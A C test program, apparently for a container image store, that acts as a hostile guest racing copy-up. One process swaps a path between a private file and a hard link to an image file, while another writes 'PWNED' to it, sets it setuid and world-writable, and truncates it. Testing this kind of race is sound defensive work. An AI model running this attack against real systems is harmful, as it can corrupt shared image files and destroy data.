/* A hostile guest racing copy-up: one process keeps swapping, under one
 * name, a private file and a hard link to a file of the image, while another
 * opens that name for writing, and chmods and touches it. A check of the name
 * followed by an open of the name would hand out the image's own file; the
 * test checks the image store afterwards. Bounded: argv[2] rounds. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 3) return 2;
	const char *image = argv[1];
	int rounds = atoi(argv[2]);
	mkdir("/tmp/race", 0755);
	pid_t swapper = fork();
	if (swapper == 0) {
		for (;;) {
			int fd = open("/tmp/race/own", O_WRONLY | O_CREAT | O_TRUNC, 0644);
			if (fd >= 0) close(fd);
			rename("/tmp/race/own", "/tmp/race/name");
			unlink("/tmp/race/link");
			link(image, "/tmp/race/link");
			rename("/tmp/race/link", "/tmp/race/name");
		}
	}
	int opened = 0;
	for (int i = 0; i < rounds; i++) {
		int fd = open("/tmp/race/name", O_WRONLY | O_APPEND);
		if (fd >= 0) {
			opened++;
			write(fd, "PWNED\n", 6);
			close(fd);
		}
		chmod("/tmp/race/name", 04777);
		utimensat(AT_FDCWD, "/tmp/race/name", 0, 0);
		truncate("/tmp/race/name", 0);
	}
	kill(swapper, SIGKILL);
	waitpid(swapper, 0, 0);
	printf("opened %d of %d\n", opened, rounds);
	return 0;
}
